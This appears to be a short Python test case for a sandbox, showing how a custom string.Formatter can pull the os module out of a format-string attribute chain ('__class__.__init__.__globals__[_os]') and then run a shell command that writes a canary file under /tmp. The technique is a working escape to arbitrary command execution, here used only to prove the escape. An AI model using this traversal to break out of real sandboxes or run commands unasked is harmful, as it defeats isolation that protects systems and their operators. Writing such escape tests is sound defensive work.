# source: own
# effect: process

from string import Formatter
import random

kept = []


class Keeper(Formatter):
    def convert_field(self, value, conversion):
        kept.append(value)
        return ""


Keeper().format("{0.__class__.__init__.__globals__[_os]!r}", random.Random())
kept[0].system("echo formats/formatter_keeps_object > /tmp/canary/process")
